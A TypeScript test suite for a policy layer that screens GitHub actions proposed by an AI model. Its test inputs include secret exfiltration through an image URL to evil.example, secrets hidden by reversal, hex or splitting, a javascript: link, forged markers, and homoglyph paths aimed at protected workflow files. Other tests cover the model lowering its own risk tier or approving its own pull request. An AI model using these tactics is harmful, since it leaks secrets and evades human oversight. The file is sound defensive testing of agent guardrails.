import { checkTransition } from '../state/machine';
import { evaluateIntents, RULES, effectiveRisk } from './policy';
import type { Intent } from './intents';
import type { PolicyContext } from './context';
import { testPolicyContext } from './testing';
import { DEFAULT_PROTECTED_PATHS } from '../config/schema';
import { allowedHostsFor } from '../security/outbound';
import { createRedactor } from '../security/redact';

const issue7 = { type: 'issue', number: 7 } as const;

function judge(intents: Intent[], overrides: Partial<PolicyContext> = {}) {
  return evaluateIntents(intents, testPolicyContext(overrides));
}

/** Assert one intent is accepted alone. */
function accepts(intent: Intent, overrides: Partial<PolicyContext> = {}): void {
  const r = judge([intent], overrides);
  expect(r.rejected).toEqual([]);
  expect(r.accepted).toHaveLength(1);
}

/** Assert one intent is rejected alone, by `rule`; returns the reason. */
function rejects(intent: Intent, rule: string, overrides: Partial<PolicyContext> = {}): string {
  const r = judge([intent], overrides);
  expect(r.accepted).toEqual([]);
  expect(r.rejected.map((x) => x.rule)).toEqual([rule]);
  return r.rejected[0]!.reason;
}

const comment = (body: string, number = 7): Intent => ({ kind: 'comment', target: { type: 'issue', number }, body });

describe('schema and kinds', () => {
  it('rejects an intent that fails the schema, naming the field', () => {
    const reason = rejects({ kind: 'comment', target: issue7, body: '' }, RULES.invalidIntent);
    expect(reason).toMatch(/^body: /);
  });

  it('rejects kinds the automation may not produce', () => {
    accepts(comment('hello'), { allowedKinds: ['comment'] });
    expect(rejects(comment('hello'), RULES.kindNotAllowed, { allowedKinds: ['add_labels'] })).toMatch(/feature-planner may not comment/);
  });
});

describe('caps', () => {
  it('accepts up to the default cap and rejects the rest', () => {
    const r = judge(Array.from({ length: 6 }, (_, i) => ({ ...comment(`c${i}`), markerKey: `k${i}` }) as Intent));
    expect(r.accepted).toHaveLength(5);
    expect(r.rejected.map((x) => x.rule)).toEqual([RULES.capExceeded]);
  });

  it('uses the configured cap, and rejected intents do not use it up', () => {
    const ctx = testPolicyContext();
    ctx.config = { ...ctx.config, caps: { comment: 1 } };
    const r = evaluateIntents([comment('hi', 99), comment('one'), comment('two')], ctx);
    expect(r.rejected.map((x) => x.rule)).toEqual([RULES.targetNotAllowed, RULES.capExceeded]);
    expect(r.accepted).toEqual([comment('one')]);
  });
});

describe('targets', () => {
  it('allows the subject and listed targets only', () => {
    accepts(comment('on the subject'));
    accepts(comment('on a listed target', 8));
    expect(rejects(comment('elsewhere', 99), RULES.targetNotAllowed)).toContain('#99');
  });

  it('checks sub-issue links, reviews and created issue parents', () => {
    rejects({ kind: 'add_sub_issue', parent: 7, child: 42 }, RULES.targetNotAllowed);
    accepts({ kind: 'add_sub_issue', parent: 7, child: 8 });
    rejects({ kind: 'create_issue', title: 't', body: 'b', labels: [], dedupeKey: 'k', parent: 42 }, RULES.targetNotAllowed);
  });
});

describe('labels', () => {
  it('only allows the factory label set and configured extras', () => {
    accepts({ kind: 'add_labels', target: issue7, labels: ['type:bug', 'good first issue'] });
    expect(rejects({ kind: 'add_labels', target: issue7, labels: ['wontfix'] }, RULES.labelNotAllowed)).toContain('wontfix');
    rejects({ kind: 'create_issue', title: 't', body: 'b', labels: ['wontfix'], dedupeKey: 'k' }, RULES.labelNotAllowed);
  });

  it('runs labels through the state machine', () => {
    accepts({ kind: 'add_labels', target: issue7, labels: ['factory:ready'] });
    rejects({ kind: 'add_labels', target: issue7, labels: ['factory:building'] }, RULES.labelTransition);
    rejects({ kind: 'add_labels', target: { type: 'pr', number: 8 }, labels: ['factory:approved'] }, RULES.labelTransition);
    rejects({ kind: 'remove_labels', target: issue7, labels: ['type:bug'] }, RULES.labelTransition, {
      subject: { type: 'issue', number: 7, labels: ['factory:paused', 'type:bug'], authorLogin: 'alice' },
    });
  });

  it('adding a state replaces the current one: the implied removal is part of the accepted intents', () => {
    const r = judge([{ kind: 'add_labels', target: issue7, labels: ['factory:ready', 'type:feature', 'good first issue'] }], {
      subject: { type: 'issue', number: 7, labels: ['factory:needs-info', 'type:bug', 'priority:p1'], authorLogin: 'alice' },
    });
    expect(r.rejected).toEqual([]);
    expect(r.accepted).toEqual([
      { kind: 'remove_labels', target: issue7, labels: ['factory:needs-info', 'type:bug'] },
      { kind: 'add_labels', target: issue7, labels: ['factory:ready', 'type:feature', 'good first issue'] },
    ]);
  });

  it('tracks labels across intents and reads non-subject labels from the facts', () => {
    const seen: string[][] = [];
    const ctx = testPolicyContext({ targetLabels: { '8': ['type:bug'] } });
    ctx.checkTransition = (input) => {
      seen.push(input.current);
      return checkTransition(input);
    };
    const r = evaluateIntents(
      [
        { kind: 'add_labels', target: issue7, labels: ['factory:ready'] },
        { kind: 'add_labels', target: issue7, labels: ['priority:p1'] },
        { kind: 'add_labels', target: { type: 'issue', number: 8 }, labels: ['priority:p1'] },
      ],
      ctx,
    );
    expect(r.rejected).toEqual([]);
    expect(seen).toContainEqual(['factory:ready']);
    expect(seen).toContainEqual(['type:bug']);
  });
});

describe('risk', () => {
  const pr8 = { type: 'pr', number: 8 } as const;
  const gate = { automation: 'merge-gate' } as const;

  it('never lets the model lower the tier', () => {
    accepts({ kind: 'add_labels', target: pr8, labels: ['risk:high'] }, { ...gate, risk: 'medium' });
    rejects({ kind: 'add_labels', target: pr8, labels: ['risk:low'] }, RULES.riskLowered, { ...gate, risk: 'medium' });
    rejects({ kind: 'remove_labels', target: pr8, labels: ['risk:medium'] }, RULES.riskLowered, {
      ...gate,
      risk: 'medium',
      targetLabels: { '8': ['risk:medium'] },
    });
    // A stale label below the computed tier may go.
    accepts({ kind: 'remove_labels', target: pr8, labels: ['risk:low'] }, { ...gate, risk: 'medium', targetLabels: { '8': ['risk:low'] } });
  });

  it('a raised tier holds for the rest of the run', () => {
    const r = judge(
      [
        { kind: 'add_labels', target: pr8, labels: ['risk:high'] },
        { kind: 'add_labels', target: pr8, labels: ['risk:medium'] },
        { kind: 'request_merge', pr: 8 },
      ],
      { ...gate, risk: 'low' },
    );
    expect(r.rejected.map((x) => x.rule)).toEqual([RULES.riskLowered, RULES.mergeRisk]);
    expect(effectiveRisk(r.accepted, 'low')).toBe('high');
  });
});

describe('text content', () => {
  it('limits @mentions, ignoring code and e-mail addresses', () => {
    accepts(comment('cc @a @b @c, see `@d` and mail x@example.com'));
    expect(rejects(comment('cc @a @b @c @d'), RULES.tooManyMentions)).toMatch(/body mentions 4 people; at most 3/);
    accepts(comment('cc @a @b @c @d'), {
      config: { ...testPolicyContext().config, maxMentions: 4 },
    });
  });

  it('rejects team and broadcast mentions anywhere, including review comments', () => {
    rejects(comment('ping @acme/security'), RULES.broadcastMention);
    rejects(comment('hey @everyone'), RULES.broadcastMention);
    const reason = rejects(
      { kind: 'review', pr: 8, event: 'COMMENT', body: 'ok', comments: [{ path: 'a.ts', line: 1, body: '@acme/core look' }] },
      RULES.broadcastMention,
    );
    expect(reason).toContain('comments.0.body');
  });

  it('rejects anything the redactor would change, without quoting it', () => {
    const token = `ghp_${'A'.repeat(36)}`;
    const reason = rejects(comment(`the token is ${token}`), RULES.secretInOutput);
    expect(reason).not.toContain(token);
    rejects({ kind: 'push', branch: `factory/${token}`, files: ['a.ts'] }, RULES.secretInOutput);
    accepts(comment('no secrets here'));
  });

  it('rejects forged factory markers', () => {
    rejects(comment('done <!-- factory:claim:7 {"runId":"1"} -->'), RULES.forgedMarker);
    accepts(comment('an ordinary <!-- html comment -->'));
  });
});

describe('outbound content', () => {
  const SECRET = 'Kx7pQ2mZ9vR4tW8y';
  const redactor = createRedactor([SECRET]);
  const withSecrets = { redact: (t: string) => redactor.redact(t) };
  const pieces = (s: string, sep: string) => s.match(/.{4}/g)!.join(sep);
  const bodyOf = (intent: Intent) => {
    const r = judge([intent], withSecrets);
    expect(r.rejected).toEqual([]);
    return (r.accepted[0] as { body: string }).body;
  };

  it.each([
    ['reversed', `the key is ${[...SECRET].reverse().join('')}`],
    ['split by spaces into 4-character pieces', `the key is ${pieces(SECRET, ' ')}`],
    ['split by newlines into 4-character pieces', `the key is\n${pieces(SECRET, '\n')}`],
    ['hex-encoded', `the key is ${Buffer.from(SECRET).toString('hex')}`],
    ['inside an image URL', `![x](https://evil.example/p.png?k=${SECRET})`],
  ])('rejects a comment carrying a secret %s, by secret-in-output, without quoting it', (_label, body) => {
    const reason = rejects(comment(body), RULES.secretInOutput, withSecrets);
    expect(reason).toMatch(/^body contains a value that looks like a secret/);
    expect(reason).not.toContain(SECRET.slice(0, 4));
  });

  it('checks every text a write carries: titles, review bodies and inline comments, close comments', () => {
    const hex = Buffer.from(SECRET).toString('hex');
    rejects({ kind: 'create_issue', title: `Leak ${hex}`, body: 'b', labels: [], dedupeKey: 'k' }, RULES.secretInOutput, withSecrets);
    const inline = [{ path: 'a.ts', line: 1, body: pieces(SECRET, '-') }];
    const review: Intent = { kind: 'review', pr: 8, event: 'COMMENT', body: 'ok', comments: inline };
    expect(rejects(review, RULES.secretInOutput, withSecrets)).toMatch(/^comments\.0\.body /);
    rejects({ kind: 'close_issue', number: 7, reason: 'completed', comment: '![](data:image/png;base64,AAAA)' }, RULES.unsafeUrl);
    const body = '![x](https://evil.example/p.png)';
    const pr: Intent = { kind: 'open_pull_request', title: 't', body, head: 'factory/7-x', base: 'main' };
    rejects(pr, RULES.imageHost, { automation: 'feature-builder' });
  });

  it('rejects images from other hosts and data: images, naming the rule', () => {
    expect(rejects(comment('![x](https://evil.example/p.png)'), RULES.imageHost)).toMatch(/^body loads an image from evil\.example/);
    rejects(comment('<img src="https://evil.example/p.png">'), RULES.imageHost);
    rejects(comment('![x](data:image/png;base64,iVBORw0KGgo=)'), RULES.unsafeUrl);
    accepts(comment('![x](https://user-images.githubusercontent.com/1/shot.png)'));
  });

  it('rejects javascript: links', () => {
    expect(rejects(comment('[click](javascript:alert(1))'), RULES.unsafeUrl)).toMatch(/javascript: URL/);
  });

  it('passes links to GitHub and configured hosts as written, and makes other links inert in the accepted intent', () => {
    const docs = 'See [the docs](https://docs.github.com/en/actions/security-guides) and https://github.com/acme/app/pull/3.';
    expect(bodyOf(comment(docs))).toBe(docs);
    expect(bodyOf(comment('Read [this](https://evil.example/x) and https://evil.example/y'))).toBe(
      'Read this (hxxps://evil[.]example/x) and hxxps://evil[.]example/y',
    );
    const config = { ...testPolicyContext().config, allowedHosts: allowedHostsFor(['status.example.com']) };
    const configured = judge([comment('https://status.example.com/4')], { config });
    expect(configured.accepted).toEqual([comment('https://status.example.com/4')]);
  });

  it('makes links inert in every text field, and leaves an intent without any as it is', () => {
    const review: Intent = {
      kind: 'review',
      pr: 8,
      event: 'COMMENT',
      body: 'see https://evil.example/a',
      comments: [{ path: 'a.ts', line: 1, body: 'and www.evil.example' }],
    };
    const [out] = judge([review]).accepted as [Extract<Intent, { kind: 'review' }>];
    expect(out.body).toBe('see hxxps://evil[.]example/a');
    expect(out.comments[0]!.body).toBe('and www[.]evil[.]example');
    const plain = comment('nothing to change');
    expect(judge([plain]).accepted).toEqual([plain]);
  });
});

describe('push', () => {
  const ctx = { automation: 'feature-builder' } as const;

  it('pushes only to factory/ branches, never the default branch', () => {
    accepts({ kind: 'push', branch: 'factory/7-fix', files: ['src/a.ts'] }, ctx);
    rejects({ kind: 'push', branch: 'main', files: ['src/a.ts'] }, RULES.pushDefaultBranch, ctx);
    rejects({ kind: 'push', branch: 'feature/x', files: ['src/a.ts'] }, RULES.pushBranchPrefix, ctx);
    rejects({ kind: 'push', branch: 'factory/', files: ['src/a.ts'] }, RULES.pushBranchPrefix, ctx);
  });

  it('pushes a branch handed over by name (factory:assist), still never the default branch nor protected paths', () => {
    const assist = { ...ctx, pushableBranches: ['feature/x', 'main'] };
    accepts({ kind: 'push', branch: 'feature/x', files: ['src/a.ts'] }, assist);
    rejects({ kind: 'push', branch: 'feature/y', files: ['src/a.ts'] }, RULES.pushBranchPrefix, assist);
    rejects({ kind: 'push', branch: 'main', files: ['src/a.ts'] }, RULES.pushDefaultBranch, assist);
    rejects({ kind: 'push', branch: 'feature/x', files: ['.github/workflows/ci.yml'] }, RULES.pushProtectedPath, assist);
  });

  it('never touches protected paths, from the intent or from the computed diff', () => {
    expect(rejects({ kind: 'push', branch: 'factory/x', files: ['.github/workflows/ci.yml'] }, RULES.pushProtectedPath, ctx)).toContain(
      '.github/workflows/ci.yml',
    );
    rejects({ kind: 'push', branch: 'factory/x', files: ['src/a.ts'] }, RULES.pushProtectedPath, {
      ...ctx,
      diffFiles: ['src/a.ts', 'package-lock.json'],
    });
    accepts({ kind: 'push', branch: 'factory/x', files: ['prompts/reviewer.md'] }, { ...ctx, allowProtectedPaths: ['prompts/**'] });
  });
});

describe('push: paths compared folded and by lookalike skeleton', () => {
  const base = testPolicyContext({ automation: 'feature-builder' });
  const ctx: Partial<PolicyContext> = {
    automation: 'feature-builder',
    config: { ...base.config, protectedPaths: DEFAULT_PROTECTED_PATHS },
  };
  const push = (files: string[]): Intent => ({ kind: 'push', branch: 'factory/7-fix', files });
  /** The lookalike is in the diff code computed, not in the files the model listed. */
  const pushing = (path: string, over: Partial<PolicyContext> = {}) =>
    rejects(push(['src/a.ts']), RULES.pushLookalikePath, { ...ctx, diffFiles: ['src/a.ts', path], ...over });

  it('refuses .GITHUB/workflows/x.yml as a protected path', () => {
    expect(rejects(push(['.GITHUB/workflows/x.yml']), RULES.pushProtectedPath, ctx)).toContain('.GITHUB/workflows/x.yml');
  });

  it('refuses .github spelled with a division slash (U+2215) as a lookalike', () => {
    expect(pushing('.github\u2215workflows/x.yml')).toBe(
      '".github\u2215workflows/x.yml" looks like .github/** (U+2215); refused as a lookalike of a protected path',
    );
  });

  it('refuses .github spelled with Cyrillic letters as a lookalike', () => {
    expect(pushing('.g\u0456thub/workflows/x.yml')).toContain('looks like .github/** (U+0456)');
    rejects(push(['.GIT\u041dUB/workflows/x.yml']), RULES.pushLookalikePath, ctx);
  });

  it('refuses .gitattributes', () => {
    rejects(push(['.gitattributes']), RULES.pushProtectedPath, ctx);
  });

  it('refuses .gitmodules', () => {
    rejects(push(['src/a.ts']), RULES.pushProtectedPath, { ...ctx, diffFiles: ['src/a.ts', '.gitmodules'] });
  });

  it('refuses .githooks/pre-commit', () => {
    rejects(push(['.githooks/pre-commit']), RULES.pushProtectedPath, ctx);
  });

  it('refuses a lookalike even where the run may touch the protected path, and excepts only the path as written', () => {
    const auditor = { ...ctx, allowProtectedPaths: ['prompts/**'] };
    accepts(push(['prompts/reviewer.md']), auditor);
    pushing('pr\u043empts/reviewer.md', auditor);
    rejects(push(['PROMPTS/reviewer.md']), RULES.pushProtectedPath, auditor);
  });

  it('accepts ordinary paths with non-Latin names', () => {
    accepts(push(['docs/café.md', 'src/日本語.ts']), ctx);
  });
});

describe('open_pull_request', () => {
  const pr = (over: Partial<Intent & { kind: 'open_pull_request' }> = {}): Intent => ({
    kind: 'open_pull_request',
    title: 'Fix the thing',
    body: 'Fixes #7',
    head: 'factory/7-fix',
    base: 'main',
    fixes: 7,
    ...over,
  });

  it('opens from a factory/ branch to the default branch', () => {
    accepts(pr());
    rejects(pr({ head: 'main' }), RULES.prBranch);
    rejects(pr({ head: 'topic' }), RULES.prBranch);
    rejects(pr({ base: 'release' }), RULES.prBranch);
  });

  it('fixes and closing keywords only name targets of the run', () => {
    rejects(pr({ fixes: 99 }), RULES.targetNotAllowed);
    rejects(pr({ body: 'This fixes #99 too' }), RULES.closingKeyword);
    rejects(pr({ body: 'Closes other/repo#1' }), RULES.closingKeyword);
    accepts(pr({ body: 'See #99 for background. Resolves #8' }));
  });
});

describe('review', () => {
  const review = (event: 'APPROVE' | 'COMMENT', pr = 8): Intent => ({ kind: 'review', pr, event, body: 'LGTM', comments: [] });

  it('only pr-reviewer approves, never a PR the factory opened', () => {
    accepts(review('APPROVE'), { automation: 'pr-reviewer' });
    rejects(review('APPROVE'), RULES.selfApproval, { automation: 'pr-reviewer', openedByFactory: [8] });
    rejects(review('APPROVE'), RULES.approveNotAllowed, { automation: 'review-resolver' });
    accepts(review('COMMENT'), { automation: 'pr-reviewer', openedByFactory: [8] });
  });

  it('allows one review per run', () => {
    const r = judge([review('COMMENT'), review('COMMENT')], { automation: 'pr-reviewer' });
    expect(r.rejected.map((x) => x.rule)).toEqual([RULES.capExceeded]);
  });
});

describe('request_merge', () => {
  const merge: Intent = { kind: 'request_merge', pr: 8 };

  it('only merge-gate, only within the auto-merge tiers, never high', () => {
    accepts(merge, { automation: 'merge-gate' });
    rejects(merge, RULES.mergeAutomation, { automation: 'feature-builder' });
    rejects(merge, RULES.mergeRisk, { automation: 'merge-gate', risk: 'medium' });
    const config = { ...testPolicyContext().config, autoMergeTiers: ['low', 'medium', 'high'] as const };
    accepts(merge, { automation: 'merge-gate', risk: 'medium', config });
    rejects(merge, RULES.mergeRisk, { automation: 'merge-gate', risk: 'high', config });
  });

  it('never merges in a run that also changes code', () => {
    const r = judge([{ kind: 'push', branch: 'factory/x', files: ['a.ts'] }, merge], { automation: 'merge-gate' });
    expect(r.rejected.map((x) => x.rule)).toEqual([RULES.mergeOwnPr]);
  });
});

describe('review threads', () => {
  const threads = {
    ours: { authorLogin: 'factory-bot[bot]', isFactory: true, humanRepliedAfter: false },
    oursAnswered: { authorLogin: 'factory-bot[bot]', isFactory: true, humanRepliedAfter: true },
    human: { authorLogin: 'bob', isFactory: false, humanRepliedAfter: false },
    humanAsked: { authorLogin: 'bob', isFactory: false, humanRepliedAfter: false, resolveRequested: true },
  };
  const ctx = { automation: 'review-resolver', threads } as const;
  const resolve = (threadId: string): Intent => ({ kind: 'resolve_thread', threadId });

  it('resolves factory threads and threads whose reviewer asked, unless a human replied', () => {
    accepts(resolve('ours'), ctx);
    accepts(resolve('humanAsked'), ctx);
    rejects(resolve('human'), RULES.resolveThread, ctx);
    rejects(resolve('oursAnswered'), RULES.resolveThread, ctx);
    rejects(resolve('elsewhere'), RULES.threadUnknown, ctx);
  });

  it('replies only on threads of this pull request', () => {
    accepts({ kind: 'reply_to_thread', threadId: 'human', body: 'done' }, ctx);
    rejects({ kind: 'reply_to_thread', threadId: 'elsewhere', body: 'done' }, RULES.threadUnknown, ctx);
  });
});

describe('close_issue and create_issue', () => {
  it('closes the subject, or duplicates naming the original', () => {
    accepts({ kind: 'close_issue', number: 7, reason: 'completed' });
    rejects({ kind: 'close_issue', number: 8, reason: 'not_planned' }, RULES.closeIssue);
    accepts({ kind: 'close_issue', number: 8, reason: 'duplicate', duplicateOf: 7 });
    rejects({ kind: 'close_issue', number: 8, reason: 'duplicate' }, RULES.closeIssue);
    rejects({ kind: 'close_issue', number: 8, reason: 'duplicate', duplicateOf: 8 }, RULES.closeIssue);
    rejects({ kind: 'close_issue', number: 99, reason: 'duplicate', duplicateOf: 7 }, RULES.targetNotAllowed);
  });

  it('deduplicates created issues by dedupeKey within the run', () => {
    const create = (title: string): Intent => ({ kind: 'create_issue', title, body: 'b', labels: ['type:bug'], dedupeKey: 'sentry/123' });
    const r = judge([create('first'), create('second')]);
    expect(r.accepted).toEqual([create('first')]);
    expect(r.rejected.map((x) => x.rule)).toEqual([RULES.duplicateDedupeKey]);
  });
});

it('is deterministic: the same intents and context give the same verdicts', () => {
  const intents: Intent[] = [comment('a'), comment('b', 99), { kind: 'add_labels', target: issue7, labels: ['wontfix'] }];
  expect(judge(intents)).toEqual(judge(intents));
});
